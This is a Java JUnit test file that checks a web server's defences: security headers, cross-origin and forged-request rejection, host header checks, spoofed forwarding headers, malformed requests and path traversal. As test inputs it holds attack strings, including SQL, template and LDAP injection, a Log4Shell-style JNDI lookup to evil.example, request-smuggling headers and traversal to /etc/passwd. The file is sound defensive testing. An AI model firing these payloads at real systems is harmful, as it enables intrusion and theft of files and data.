package org.valuegap.app.access;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.valuegap.app.TestServer;

/** Whom the server hears at all (reliability B41 to B45), and what every answer carries. */
class GateTest {
  private static TestServer server;

  @BeforeAll
  static void start() {
    server = TestServer.ofAnubis("--valuegap.hosts=maps.anubis.example");
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  /** B45: no page of another site frames ours. */
  @Test
  void everyAnswerCarriesTheHeadersOfAStrictPage() {
    var browser = server.browser();
    for (var path : List.of("/sign-in", "/nothing-here", "/", "/assets/none/x.css")) {
      var headers = browser.get(path).headers();
      var content = headers.firstValue("Content-Security-Policy").orElseThrow();
      assertThat(content)
          .contains("default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'");
      assertThat(content).doesNotContain("unsafe", "*", "data:");
      assertThat(headers.firstValue("X-Content-Type-Options")).contains("nosniff");
      assertThat(headers.firstValue("Referrer-Policy")).contains("same-origin");
      assertThat(headers.firstValue("Cross-Origin-Opener-Policy")).contains("same-origin");
      assertThat(headers.firstValue("Permissions-Policy")).get().asString().contains("camera=()");
      assertThat(headers.firstValue("X-Frame-Options")).contains("DENY");
    }
  }

  @Test
  void b44NoOtherSiteMayReadAnAnswer() {
    var browser = server.owner();
    for (var origin : List.of("null", "https://evil.example", "http://127.0.0.1.evil.example")) {
      var answer = browser.send(browser.request("/").header("Origin", origin));
      assertThat(answer.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"http://evil.example", "null", "https://127.0.0.1:1", "http://127.0.0.1", "x y"})
  void b43WhatAnotherSiteSendsIsNotCarriedOut(String origin) {
    var ines = server.owner();
    var forged =
        ines.request("/sign-out")
            .header("Origin", origin)
            .header("Content-Type", "text/plain")
            .POST(BodyPublishers.ofString("a=b"));
    assertThat(ines.send(forged).statusCode()).isEqualTo(403);
    assertThat(ines.get("/").statusCode()).isNotEqualTo(302);
  }

  @Test
  void b41ARequestWithoutAnOriginIsNotCarriedOut() {
    var ines = server.owner();
    var bare = ines.request("/sign-out").POST(BodyPublishers.noBody());
    assertThat(ines.send(bare).statusCode()).isEqualTo(403);
    var same =
        ines.request("/sign-out")
            .header("Sec-Fetch-Site", "same-origin")
            .POST(BodyPublishers.noBody());
    assertThat(ines.send(same).statusCode()).isEqualTo(303);
  }

  @Test
  void b41ASocketOpensOnlyForPagesOfThisHost() throws IOException {
    var upgrade =
        "GET /live HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            + "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    assertThat(status(upgrade + "Origin: https://evil.example\r\n")).isEqualTo(403);
    assertThat(status(upgrade)).isEqualTo(403);
  }

  @Test
  void b42OnlyNamesOfThisServerAreAnsweredTo() throws IOException {
    for (var ours :
        List.of("127.0.0.1:%d", "localhost:%d", "[::1]:%d", "192.0.2.7", "maps.anubis.example")) {
      assertThat(status("GET /sign-in HTTP/1.1\r\nHost: " + ours + "\r\n")).as(ours).isEqualTo(200);
    }
    for (var other :
        List.of("evil.example:%d", "127.0.0.1.evil.example", "localhost.evil", "a@b")) {
      assertThat(status("GET /sign-in HTTP/1.1\r\nHost: " + other + "\r\n"))
          .as(other)
          .isIn(400, 421);
    }
  }

  @Test
  void b46WhatAnybodyMayWriteAboutWhereARequestCameFromIsNotBelieved() {
    var browser = server.browser();
    var form = "email=ines%40anubis.example&password=" + TestServer.PASSWORD.replace(" ", "+");
    var in =
        browser.send(
            browser
                .request("/sign-in")
                .header("Origin", server.origin())
                .header("X-Forwarded-For", "192.0.2.1")
                .header("X-Forwarded-Proto", "https")
                .header("X-Forwarded-Host", "evil.example")
                .header("Forwarded", "host=evil.example;proto=https")
                .header("X-Forwarded-User", "owner")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(BodyPublishers.ofString(form)));
    assertThat(in.headers().firstValue("Set-Cookie")).get().asString().startsWith("valuegap=");
    var member = Map.of("name", "Greta", "email", "greta@anubis.example", "role", "VIEWER");
    var ines = server.owner();
    assertThat(ines.post("/settings/members", member).body())
        .contains(server.origin() + "/join?code=")
        .doesNotContain("evil");
  }

  @Test
  void b75WhatLooksLikeCodeIsText() {
    var ines = server.owner();
    for (var code :
        List.of(
            "' OR 1=1; DROP TABLE person; --",
            "${7*7} #{7*7} {{7*7}} <%= 7*7 %>",
            "${jndi:ldap://evil.example/x}",
            "*)(uid=*))(|(uid=*",
            "{0, plural, one {#} other {#}} '{' ''")) {
      var made = ines.post("/customers/new", Map.of("name", code, "position", code));
      var page = ines.get(made.headers().firstValue("Location").orElseThrow());
      assertThat(page.statusCode()).as(code).isEqualTo(200);
      assertThat(page.body().replace("&#39;", "'").replace("&#34;", "\"").replace("&gt;", ">"))
          .contains(code.replace("<%", "&lt;%"));
    }
    assertThat(ines.get("/customers").body()).doesNotContain(">49 ");
  }

  @Test
  void b76WhatIsNoRequestIsRefused() throws IOException {
    var host = "Host: 127.0.0.1:%d\r\n";
    var long40k = "X-Long: " + "x".repeat(40_000) + "\r\n";
    assertThat(status("GET /sign-in HTTP/1.1\r\n" + host + long40k)).isIn(400, 431);
    assertThat(status("GET /" + "x".repeat(40_000) + " HTTP/1.1\r\n" + host)).isIn(400, 414);
    var both = "Content-Length: 4\r\nTransfer-Encoding: chunked, identity\r\n";
    assertThat(status("POST /sign-in HTTP/1.1\r\n" + host + both)).isIn(400, 403, 501);
    assertThat(status("POST /sign-in HTTP/1.1\r\n" + host + "Content-Length: -1\r\n"))
        .isEqualTo(400);
    assertThat(status("GET /sign-in HTTP/1.1\r\n" + host + host)).isEqualTo(400);
    assertThat(status("TRACE /sign-in HTTP/1.1\r\n" + host)).isIn(400, 403, 405);
    var many = "a=b&".repeat(20_000);
    var ines = server.owner();
    var sent =
        ines.request("/customers/new")
            .header("Origin", server.origin())
            .header("Content-Type", "application/x-www-form-urlencoded")
            .POST(BodyPublishers.ofString(many));
    assertThat(ines.send(sent).statusCode()).isIn(400, 413, 422);
  }

  @Test
  void b48OddPathsReachNothing() throws IOException {
    for (var path :
        List.of(
            "/assets/..%2f..%2fapplication.yaml",
            "/%2e%2e/etc/passwd", "/a;/b", "//sign-in", "/assets/%2e%2e/application.yaml")) {
      assertThat(status("GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"))
          .as(path)
          .isIn(400, 404);
    }
  }

  @Test
  void aFormWithoutTheFileThatIsAskedForIsRefused() {
    var ines = server.owner();
    var dana = ines.post("/customers/new", Map.of("name", "Dana Okafor")).headers();
    var customer = dana.firstValue("Location").orElseThrow().replace("/maps/", "/customers/");
    assertThat(ines.post("/import", Map.of("file", "x")).statusCode()).isEqualTo(400);
    for (var path : List.of("/import", customer + "/picture", "/customers/new")) {
      var broken = ines.request(path).header("Origin", server.origin());
      broken.header("Content-Type", "multipart/form-data; boundary=cut");
      broken.POST(BodyPublishers.ofString("--cut\r\nContent-Disposition: form-data; na"));
      assertThat(ines.send(broken).statusCode()).as(path).isBetween(400, 422);
    }
  }

  @Test
  void b78ReadingChangesNothingAndOtherMethodsAreRefused() throws IOException {
    var ines = server.owner();
    assertThat(ines.get("/sign-out").statusCode()).isIn(404, 405);
    assertThat(ines.get("/").statusCode()).isNotEqualTo(302);
    var put = ines.request("/sign-in").header("Origin", server.origin());
    assertThat(ines.send(put.PUT(BodyPublishers.noBody())).statusCode()).isEqualTo(405);
    var trace = "TRACE /sign-in HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: http://127.0.0.1:%d\r\n";
    assertThat(status(trace)).isEqualTo(405);
    var overridden = ines.post("/sign-in?_method=DELETE", Map.of("email", "a@b", "password", "c"));
    assertThat(overridden.statusCode()).isEqualTo(422);
  }

  /** The status of a request written by hand; {@code %d} is the port. */
  private static int status(String head) throws IOException {
    var address = server.address();
    try (var socket = new Socket(address.getHost(), address.getPort())) {
      socket.setSoTimeout(10_000);
      var request = head.replace("%d", "" + address.getPort()) + "Connection: close\r\n\r\n";
      socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
      socket.getOutputStream().flush();
      var line =
          new java.io.BufferedReader(
                  new java.io.InputStreamReader(socket.getInputStream(), StandardCharsets.US_ASCII))
              .readLine();
      return Integer.parseInt(line.split(" ")[1]);
    }
  }
}
